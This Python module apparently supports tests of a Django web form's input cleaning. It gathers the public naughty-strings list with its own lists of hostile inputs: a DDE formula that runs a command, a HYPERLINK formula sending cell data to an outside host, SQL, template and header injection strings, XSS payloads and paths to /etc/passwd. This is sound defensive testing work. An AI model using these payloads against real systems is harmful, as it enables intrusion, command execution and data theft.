"""The strings: the public big list (blns.json, MIT, see LICENSE beside it), and what an office meets besides.

A string is either kept, always as `cleaned`, or refused with a sentence. Nothing in between.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Final

from django.core.exceptions import ValidationError

from web.forms import LongTextField

BIG: Final = tuple(json.loads((Path(__file__).parent / "blns.json").read_text(encoding="utf-8")))
FORMULAS: Final = (
    "=1+1",
    '=HYPERLINK("http://x.cn/?"&A1,"看")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    '"=1+1',
    "=1+1;=2+2",
    "%0A=1+1",
)
OURS: Final = (
    "{{ 7|add:7 }}",
    "{% now 'Y' %}",
    "{{链接}}",
    "{% include 'web/_500.html' %}",
    "${7*7}",
    "#{7*7}",
    "%(name)s %s %d {0}",
    "%",
    "_",
    "\\%",
    "' OR 1=1 --",
    "\x00",
    "电\x00压",
    "电\x07压",
    "\u202egpj.exe",
    "a\u2066b",
    "\ufeff标题\u200b",
    "\ufffe",
    "第一行\r\n第二行\r第三行\u2028第四行",
    "Subject: x\r\nBcc: y@x.cn",
    "X\nX-Injected: 1",
    "𠮷野家",
    "e\u0301le\u0300ve",
    "👩‍👩‍👧‍👦",
    "﷽" * 40,
    "\u200d",
    "\u200b",
    "<!--",
    "]]>",
    "<![CDATA[x]]>",
    "&#0;",
    "&lt;b&gt;",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "data:text/html,<script>1</script>",
    "../../../../etc/passwd",
    "C:\\CON\\NUL.txt",
    "file:///etc/passwd",
    "\\u0000\\ud800",
    "null",
    "[]",
    "{}",
    "1" * 400,
)
ALL: Final = tuple(dict.fromkeys((*BIG, *FORMULAS, *OURS)))
_LONGEST: Final = 5000


def cleaned(text: str) -> str | None:
    """The text as every form keeps it; None for one that it refuses."""
    try:
        return str(LongTextField(max_length=_LONGEST, required=False).clean(text))
    except ValidationError:
        return None


KEPT: Final = tuple(dict.fromkeys(words for text in ALL if (words := cleaned(text))))
REFUSED: Final = tuple(text for text in ALL if cleaned(text) is None)


def packed(most: int) -> Iterator[str]:
    """All that are kept, as texts of at most so many characters, one string beside the other on lines of their own."""
    lines: list[str] = []
    for words in KEPT:
        if lines and sum(map(len, lines)) + len(lines) + len(words) > most:
            yield "\n".join(lines)
            lines = []
        lines.append(words)
    yield "\n".join(lines)
